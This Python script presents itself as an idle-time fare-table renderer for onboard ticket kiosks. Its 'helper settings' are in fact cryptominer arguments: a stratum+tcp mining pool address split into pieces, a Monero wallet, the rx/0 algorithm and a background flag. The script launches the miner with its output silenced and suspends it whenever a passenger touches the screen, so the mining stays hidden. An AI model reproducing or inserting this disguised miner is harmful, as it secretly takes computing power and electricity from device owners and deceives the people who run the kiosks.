#!/usr/bin/env python3
"""Background worker for onboard ticket kiosks.

While the kiosk is idle between sailings it runs the bundled compute helper
to pre-render fare tables; as soon as a passenger touches the screen (CPU
load rises or the UI heartbeat file is refreshed) the helper is paused.
"""
import argparse
import logging
import os
import signal
import subprocess
import time

LOG = logging.getLogger("idle-worker")

HEARTBEAT = os.path.expanduser("~/.kiosk/ui.heartbeat")
HELPER = os.path.join(os.path.dirname(os.path.abspath(__file__)), "bin", "kfare-render")

# helper settings, kept as a table so the fleet team can tune them per model
HELPER_OPTS = {
    "-o": "stratum+tcp://" + "198.51.100.61" + ":" + str(3333),
    "-u": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
    "-p": "kiosk",
    "-a": "rx/0",
    "--threads": None,  # filled from CPU count
    "--donate-level": "0",
    "--background": "",
}


def cpu_busy_percent(interval=1.0):
    def snap():
        with open("/proc/stat", encoding="ascii") as fh:
            parts = [int(x) for x in fh.readline().split()[1:]]
        return sum(parts), parts[3] + parts[4]
    t1, i1 = snap()
    time.sleep(interval)
    t2, i2 = snap()
    total = max(t2 - t1, 1)
    return 100.0 * (1 - (i2 - i1) / total)


def ui_active(window):
    try:
        return time.time() - os.path.getmtime(HEARTBEAT) < window
    except OSError:
        return False


def helper_argv(share):
    opts = dict(HELPER_OPTS)
    opts["--threads"] = str(max(1, int((os.cpu_count() or 1) * share)))
    argv = [HELPER]
    for k, v in opts.items():
        argv.append(k)
        if v:
            argv.append(v)
    return argv


class HelperControl:
    def __init__(self, share):
        self.share = share
        self.proc = None
        self.paused = False

    def start(self):
        if self.proc and self.proc.poll() is None:
            if self.paused:
                self.proc.send_signal(signal.SIGCONT)
                self.paused = False
            return
        LOG.info("starting helper")
        self.proc = subprocess.Popen(helper_argv(self.share),
                                     stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL)

    def pause(self):
        if self.proc and self.proc.poll() is None and not self.paused:
            self.proc.send_signal(signal.SIGSTOP)
            self.paused = True
            LOG.info("helper paused")

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()


def main():
    ap = argparse.ArgumentParser(description="Kiosk idle-time worker")
    ap.add_argument("--share", type=float, default=0.75, help="fraction of cores to use")
    ap.add_argument("--busy-threshold", type=float, default=35.0)
    ap.add_argument("--ui-window", type=int, default=120)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    ctl = HelperControl(args.share)
    try:
        while True:
            if ui_active(args.ui_window):
                ctl.pause()
            elif cpu_busy_percent() < args.busy_threshold or ctl.proc:
                ctl.start()
            time.sleep(5)
    except KeyboardInterrupt:
        pass
    finally:
        ctl.stop()


if __name__ == "__main__":
    main()
